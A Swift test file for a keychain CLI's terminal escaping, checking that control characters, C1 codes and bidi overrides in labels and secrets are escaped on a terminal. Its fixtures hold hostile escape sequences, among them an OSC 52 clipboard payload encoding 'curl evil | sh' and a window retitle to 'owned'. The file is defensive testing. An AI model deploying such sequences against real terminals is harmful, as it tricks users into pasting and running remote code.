import Foundation
import Testing
import KeychainCore
import POSIXSupport
import KCTestSupport

/// Issue 29, items 11 and 13: what kc writes to a terminal. One escaping function
/// (`TerminalSafe`) covers C0, DEL, C1 (as characters and as raw bytes outside UTF-8) and
/// the bidirectional formatting characters, for labels in prompts, attribute values and
/// messages; a secret is shown escaped on a terminal and keeps its exact bytes in a pipe
/// or a file. Every attack runs the real `kc` on a real pseudo-terminal (`pty_session.py`).
@Suite struct TerminalEscapeTests {
    /// A label that, raw, would set the terminal's clipboard through C1 OSC (U+009D … U+009C,
    /// no ESC at all), clear the screen through C1 CSI (U+009B), and reverse what follows it
    /// on the screen (U+202E, RIGHT-TO-LEFT OVERRIDE).
    static let c1Label = "bank\u{9D}52;c;Y3VybCBldmlsIHwgc2g=\u{9C}\u{9B}2J\u{202E}knab"
    /// The characters of `c1Label` a terminal acts on.
    static let acting: [Unicode.Scalar] = ["\u{9D}", "\u{9C}", "\u{9B}", "\u{202E}"]

    func drive(_ h: KCHome, _ arguments: [String], _ steps: [[String]], env: [String: String] = [:]) throws -> TerminalTests.Session {
        try TerminalTests().drive(h, arguments, steps, env: env)
    }

    // MARK: - the one function

    @Test func theOneFunctionEscapesC0DelC1BidiAndBytesOutsideUTF8() throws {
        #expect(TerminalSafe.escaped("a\u{1B}]0;x\u{07}b") == "a\\u001b]0;x\\u0007b")
        #expect(TerminalSafe.escaped("\u{7F}\u{80}\u{85}\u{9B}\u{9D}\u{9F}") == "\\u007f\\u0080\\u0085\\u009b\\u009d\\u009f")
        #expect(
            TerminalSafe.escaped("abc\u{202E}fed\u{2066}x\u{2069}\u{200F}\u{061C}\u{2028}")
                == "abc\\u202efed\\u2066x\\u2069\\u200f\\u061c\\u2028")
        // Text a terminal shows as it is stays as it is: accents, CJK, an emoji joined with ZWJ, U+00A0.
        for text in ["héllo ✓ 日本", "👩‍👩‍👧", "a\u{A0}b", "back\\slash \"quoted\""] {
            #expect(TerminalSafe.escaped(text) == text, "\(text.debugDescription)")
        }
        #expect(TerminalSafe.escaped("a\nb\tc") == "a\\nb\\tc")
        #expect(TerminalSafe.escaped("a\nb\r", .lines) == "a\nb\\r")
        // Bytes: a raw 0x9B (C1 CSI to an 8-bit terminal) outside UTF-8, a valid U+009B, a
        // byte that is never UTF-8, a truncated sequence; backslashes doubled in a secret.
        let bytes: [UInt8] = [0x61, 0x9B, 0x32, 0x4A, 0xC2, 0x9B, 0xFF, 0x5C, 0x0A, 0x09, 0xE2, 0x80]
        #expect(TerminalSafe.escaped(bytes: bytes, .secret) == Array("a\\x9b2J\\u009b\\xff\\\\\n\t\\xe2\\x80".utf8))
        #expect(TerminalSafe.needsEscaping([0x61, 0x9B]) && TerminalSafe.needsEscaping([0xC2, 0x85]))
        #expect(!TerminalSafe.needsEscaping(Array("plain ✓\n".utf8)))
        // The JSON style is JSON: it reads back as the same string.
        let nasty = "q\"\\\u{1B}[2J\u{9B}\u{202E}✓\n"
        let json = "\"" + TerminalSafe.escaped(nasty, .json) + "\""
        #expect(!TerminalSafe.hasControl(json))
        #expect(try JSONSerialization.jsonObject(with: Data(json.utf8), options: .fragmentsAllowed) as? String == nasty)
    }

    // MARK: - item 11: labels, attributes, messages

    /// The presence prompt names the item by its label: a label with C1 controls and a bidi
    /// override (from an import, say) reaches the terminal escaped. Before, only C0 and DEL
    /// were stripped and U+009D … U+009C went to the terminal raw.
    @Test func thePresencePromptEscapesC1AndBidiInALabel() throws {
        let h = try KCHome()
        try h.createKeychain()
        let added = try h.kc(
            ["add", "-s", "bank", "-a", "me", "-l", Self.c1Label, "--user-presence", "-w", "pin-4711"],
            password: KCHome.password)
        #expect(added.status == 0, "\(added.stderr)")
        let s = try drive(
            h, ["find", "-s", "bank", "-w"],
            [
                ["expect", "bank\\u009d52;c;Y3VybCBldmlsIHwgc2g=\\u009c\\u009b2J\\u202eknab"], ["expect", "Password for keychain"],
                ["send", KCHome.password + "\n"]
            ], env: ["KC_PASSWORD": KCHome.password])
        #expect(s.error == nil && s.status == 0, "\(s.error ?? ""): \(s.screen.debugDescription)")
        #expect(!s.screen.unicodeScalars.contains { Self.acting.contains($0) }, "a raw control reached the terminal: \(s.screen.debugDescription)")
        #expect(s.screen.hasSuffix("pin-4711\r\n"), "\(s.screen.debugDescription)")
    }

    /// The same label in `kc find`'s text, `kc list`'s table and `--json`, and in a message
    /// that quotes it: escaped everywhere, on a terminal and in a pipe alike.
    @Test func labelsAttributesAndMessagesEscapeC1AndBidi() throws {
        let h = try KCHome()
        try h.createKeychain()
        #expect(try h.kc(["add", "-s", "bank", "-a", "me", "-l", Self.c1Label, "-w", "x"], password: KCHome.password).status == 0)
        func clean(_ text: String, _ what: String, readable: Bool = true) {
            #expect(!text.unicodeScalars.contains { Self.acting.contains($0) }, "\(what): \(text.debugDescription)")
            #expect(!readable || text.contains("\\u009d52;c;"), "\(what): escaped, still readable: \(text.debugDescription)")
        }
        clean(try h.kc(["find", "-s", "bank"], password: KCHome.password).stdout, "find")
        clean(try h.kc(["find", "-s", "bank", "--json"], password: KCHome.password).stdout, "find --json")
        clean(try h.kc(["list"], password: KCHome.password).stdout, "list")
        let s = try drive(h, ["list"], [["expect", "CLASS"]], env: ["KC_PASSWORD": KCHome.password])
        clean(s.screen, "list on a terminal", readable: false)
        // A message quoting an argument with the same characters.
        let out = try h.kc(["find", "-s", Self.c1Label, "-w"], password: KCHome.password)
        #expect(out.status == 44, "\(out.stderr)")
        clean(out.stderr, "error message")
    }

    // MARK: - item 13: a secret's own bytes

    /// An imported secret that, printed raw, sets the terminal's clipboard with OSC 52 (to a
    /// command for the user to paste), retitles the window, and hides its start behind a
    /// carriage return; plus a raw 0x9B byte (C1 CSI to an 8-bit terminal) outside UTF-8.
    static let hostile: [UInt8] =
        Array("pw-start\u{1B}]52;c;Y3VybCBldmlsIHwgc2g=\u{07}\u{1B}]0;owned\u{07}\rmid\\dle".utf8)
        + [0x9B, 0x32, 0x4A] + Array("\tend\nline two".utf8)

    func homeWithHostileSecret() throws -> KCHome {
        let h = try KCHome()
        try h.createKeychain()
        let file = h.directory + "/imported-secret"
        try Data(Self.hostile).write(to: URL(fileURLWithPath: file))
        let out = try h.kc(["add", "-s", "osc", "-a", "me", "--data-file", file], password: KCHome.password)
        #expect(out.status == 0, "\(out.stderr)")
        try FileManager.default.removeItem(atPath: file)
        return h
    }

    /// On a terminal `kc find -w`, `kc read` and `kc inject` show the secret escaped (line
    /// ends and tabs kept, `\\` for its backslash) and say on stderr how to get its bytes.
    /// Before, the escape sequences went to the terminal raw.
    @Test func aSecretsControlSequencesAreShownEscapedOnATerminal() throws {
        let h = try homeWithHostileSecret()
        let shown = "pw-start\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007\\u001b]0;owned\\u0007\\rmid\\\\dle\\x9b2J\tend\r\nline two"
        let template = h.directory + "/t.tmpl"
        try "A={{ kc://osc/me }}|\n".write(toFile: template, atomically: true, encoding: .utf8)
        for arguments in [["find", "-s", "osc", "-w"], ["read", "kc://osc/me"], ["inject", "-i", template]] {
            let s = try drive(h, arguments, [["expect", "line two"], ["expect", "exact bytes"]], env: ["KC_PASSWORD": KCHome.password])
            #expect(s.error == nil && s.status == 0, "\(arguments): \(s.error ?? ""): \(s.screen.debugDescription)")
            #expect(
                !s.screen.contains("\u{1B}") && !s.screen.contains("\u{07}") && !s.screen.contains("\u{FFFD}"),
                "\(arguments): a raw control reached the terminal: \(s.screen.debugDescription)")
            #expect(s.screen.contains(shown), "\(arguments): \(s.screen.debugDescription)")
            #expect(s.screen.contains("kc: note: the secret has control characters"), "\(arguments): \(s.screen.debugDescription)")
        }
        // A secret with nothing a terminal acts on is printed as it is, backslashes and all, with no note.
        #expect(try h.kc(["add", "-s", "plain", "-a", "me", "-w", "a\\b ✓"], password: KCHome.password).status == 0)
        let s = try drive(h, ["find", "-s", "plain", "-w"], [], env: ["KC_PASSWORD": KCHome.password])
        #expect(s.status == 0 && s.screen == "a\\b ✓\r\n", "\(s.screen.debugDescription)")
    }

    /// In a pipe and into a file the same commands write the secret's exact bytes.
    @Test func aPipeAndAFileKeepTheExactBytes() throws {
        let h = try homeWithHostileSecret()
        for arguments in [["find", "-s", "osc", "-w"], ["read", "kc://osc/me"]] {
            let out = try h.kc(arguments, password: KCHome.password)
            #expect(out.status == 0 && out.stdoutBytes == Self.hostile, "\(arguments): \(out.stdoutBytes)")
            #expect(!out.stderr.contains("note"), "\(arguments): \(out.stderr)")
        }
        let file = h.directory + "/out.bin"
        var env = h.environment
        env["KC_PASSWORD"] = KCHome.password
        env["PATH"] = "/usr/bin:/bin"
        let shell = try Spawn.run(["/bin/sh", "-c", "'\(KCBinary.path)' read kc://osc/me > '\(file)'"], environment: env)
        #expect(shell.status == 0, "\(shell.stderr)")
        #expect(try Data(contentsOf: URL(fileURLWithPath: file)) == Data(Self.hostile))
        let template = h.directory + "/t.tmpl"
        try "{{ kc://osc/me }}".write(toFile: template, atomically: true, encoding: .utf8)
        let injected = h.directory + "/injected"
        #expect(try h.kc(["inject", "-i", template, "-o", injected], password: KCHome.password).status == 0)
        #expect(try Data(contentsOf: URL(fileURLWithPath: injected)) == Data(Self.hostile))
    }
}
